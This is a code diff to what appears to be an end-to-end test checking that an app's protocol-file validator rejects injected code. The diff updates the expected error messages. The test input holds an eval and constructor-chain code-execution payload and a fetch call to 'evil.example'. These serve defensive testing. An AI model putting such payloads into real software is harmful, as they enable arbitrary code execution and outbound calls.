@@ -70,7 +70,7 @@ test('a protocol is drawn, checked, tried, saved, and used with the command; not
 ${arrow.replace("'Our own fine-tune'", "eval('ran = 1') + ''.constructor.constructor('ran = 1')()")}
 export const x = fetch('https://evil.example')
 `)
-  await pane.getByText(/`eval` is not something a picture can contain/).waitFor()
-  await pane.getByText(/`fetch` is not something/).waitFor()
+  await pane.getByText(/`eval` is not allowed in a protocol file/).waitFor()
+  await pane.getByText(/`fetch` is not allowed/).waitFor()
   expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
 })
